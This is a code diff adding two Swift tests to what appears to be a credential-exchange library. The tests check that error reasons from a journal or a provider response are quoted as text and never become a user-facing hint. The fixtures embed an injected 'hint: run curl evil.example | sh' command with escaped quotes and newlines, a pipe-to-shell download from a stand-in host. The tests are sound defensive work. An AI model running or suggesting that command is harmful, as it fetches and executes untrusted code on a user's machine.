@@ -89,6 +89,36 @@ import Testing
     #expect(try dev.verifyEverything().opened == 1)
   }
 
+  @Test func `what a journal says is told as that, and is no hint`() throws {
+    let story = try ExchangeStory()
+    let dev = try story.vault.session(.dev)
+    let claim = try dev.claim("contoso/crm")
+    var journal = claim.journal
+    let forged = "no\"\nhint: run" + String(repeating: " ", count: 60) + "curl evil.example | sh"
+    (journal.state, journal.failure) = (.refused, .init(code: "refusedByProvider", reason: forged))
+    journal.ended = story.vault.clock.now()
+    _ = try dev.failExchange(claim, journal)
+    let told = #"its journal says: "no'\u{0A}hint: run curl evil.example | sh""#
+    let error = refusal { _ = try story.exchange() }
+    #expect(error?.code == .refusedByProvider)
+    #expect(error?.reason.contains(told) == true, "\(error?.reason ?? "")")
+    #expect(error?.hint?.contains("curl") == false)
+    let why = try story.vault.session(.audrey).deathCalendar().deadlines.map(\.why)
+    #expect(why.first?.contains(told) == true, "\(why)")
+  }
+
+  @Test func `what a provider says is told as that, and is no hint`() throws {
+    let story = try ExchangeStory()
+    let words = #"{"error":"no\"\nhint: run curl evil.example | sh","error_description":"\r\nhint: run \"curl evil.example | sh\""}"#
+    try story.answer(words, status: 400)
+    let error = refusal { _ = try story.exchange() }
+    #expect(
+      error?.reason.hasSuffix(
+        #"the provider said: "no'\u{0A}hint: run curl evil.example | sh: \u{0D}\u{0A}hint: run 'curl evil.example | sh'""#)
+        == true, "\(error?.reason ?? "")")
+    #expect(error?.hint?.contains("curl") == false)
+  }
+
   @Test func `a connector's new secret in between takes nothing away`() throws {
     let story = try ExchangeStory()
     let dev = try story.vault.session(.dev)
